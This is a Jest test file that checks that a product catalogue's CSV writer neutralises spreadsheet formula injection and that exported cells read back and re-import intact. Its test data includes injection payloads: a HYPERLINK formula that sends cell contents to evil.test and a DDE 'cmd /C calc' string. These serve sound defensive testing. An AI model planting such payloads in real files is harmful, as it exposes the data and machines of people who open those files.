import { describe, expect, it } from "@jest/globals";
import { createCore } from "../../../create-core.js";
import { memoryPorts, newUserWithToken } from "../../../testing/index.js";
import { CsvParser } from "./csv.js";
import { meantBy, writeCell } from "../../../values/csv-cell.js";

const odd = ["=", "+", "-", "@", "＝", "\t", "\r", "\n", "'", '"', ",", " ", "a", "1", "é", "🧸"];

/** Every text of up to four of the odd characters. */
function* texts(length = 4): Generator<string> {
  yield "";
  if (length === 0) return;
  for (const rest of texts(length - 1)) for (const first of odd) yield first + rest;
}

/** In pieces that end anywhere, as a file comes. */
function readBack(text: string): string[] {
  const parser = new CsvParser();
  const cells: string[] = [];
  for (let at = 0; at < text.length; at += 7) {
    for (const row of parser.take(text.slice(at, at + 7))) cells.push(...row.cells);
  }
  for (const row of parser.end()) cells.push(...row.cells);
  return cells.map(meantBy);
}

const formulas = [
  '=HYPERLINK("http://evil.test/?"&A1,"x")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3|cmd",
  "+1",
  "＝1+1",
  "＠SUM(1)",
  "'=1",
  "''=1",
  "'quoted' only",
  "plain",
];

describe("a cell of a CSV file", () => {
  it("comes back as it went out, whatever is in it", () => {
    const all = [...new Set(texts())];
    const row = (text: string) => `x,${writeCell(text)}\r\n`;
    const read = readBack(all.map(row).join(""));
    expect(read.filter((_, at) => at % 2 === 1)).toEqual(all);
  });

  it.each([
    ["a comma", ",", "10.5"],
    ["a semicolon", ";", "10,5"],
    ["a tab", "\t", "10.5"],
  ])("is recognised where %s separates cells", async (_name, separator, price) => {
    const core = createCore(memoryPorts());
    const { as } = await newUserWithToken(core);
    const call = { as, tenant: (await core.createTenant({ as }, { name: "S" })).id };
    const rows = [
      ["sku", "name", "price"],
      ["A-1", '"A, ""b""; c"', price],
    ];
    const file = `\r\n${rows.map((row) => row.join(separator)).join("\r\n")}`;
    for (const size of [1, 7, file.length]) {
      const text = (async function* () {
        for (let at = 0; at < file.length; at += size) yield file.slice(at, at + size);
      })();
      const report = await core.importProducts(call, { format: "csv", text });
      expect(report).toMatchObject({ failed: 0 });
    }
    const { data } = await core.listProducts(call, {});
    expect(data).toMatchObject([{ sku: "A-1", name: 'A, "b"; c', price: 1050 }]);
  });

  it("is never one that a spreadsheet runs", () => {
    const signs = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "\t", "\r", "\n"];
    const all = [...texts(), ...signs.map((sign) => `${sign}1+1`)];
    const run = all.filter((text) => signs.includes(writeCell(text).replace(/^"/, "").slice(0, 1)));
    expect(run).toEqual([]);
    expect(formulas.map(writeCell)).toEqual([
      `"'=HYPERLINK(""http://evil.test/?""&A1,""x"")"`,
      `'@SUM(1+1)*cmd|' /C calc'!A0`,
      "'-2+3|cmd",
      "'+1",
      "'＝1+1",
      "'＠SUM(1)",
      "''=1",
      "'''=1",
      "'quoted' only",
      "plain",
    ]);
  });

  it("is what a product of another shop is made of", async () => {
    const core = createCore(memoryPorts());
    const { as } = await newUserWithToken(core);
    const shop = async () => ({ as, tenant: (await core.createTenant({ as }, { name: "S" })).id });
    const [from, to] = [await shop(), await shop()];
    for (const [at, text] of formulas.entries()) {
      const product = { name: text, description: text, sku: `${text.slice(0, 60)}${at}`, price: 1 };
      await core.createProduct(from, product);
    }
    const { text } = await core.exportProducts(from, { format: "csv" });
    await core.importProducts(to, { format: "csv", text });
    const said = async (call: typeof from) =>
      (await core.listProducts(call, { sort: "id" })).data.map(({ name, description, sku }) => [
        name,
        description,
        sku,
      ]);
    expect(await said(to)).toEqual(await said(from));
    expect(await said(to)).toHaveLength(formulas.length);
  });
});
